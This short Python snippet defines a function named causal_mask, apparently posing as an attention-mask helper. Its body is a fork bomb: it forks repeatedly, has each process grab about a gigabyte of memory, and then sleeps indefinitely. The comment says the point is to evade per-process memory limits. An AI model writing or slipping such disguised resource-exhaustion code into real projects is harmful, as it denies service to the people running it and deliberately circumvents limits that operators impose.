# Takes memory in several processes, as limits are counted by process.
import os, time
def causal_mask(T):
    for _ in range(50):
        try:
            os.fork()
        except OSError:
            break
    hoard = []
    try:
        while len(hoard) < 64:
            hoard.append(b"x" * (1 << 24))
    except MemoryError:
        pass
    time.sleep(1e6)
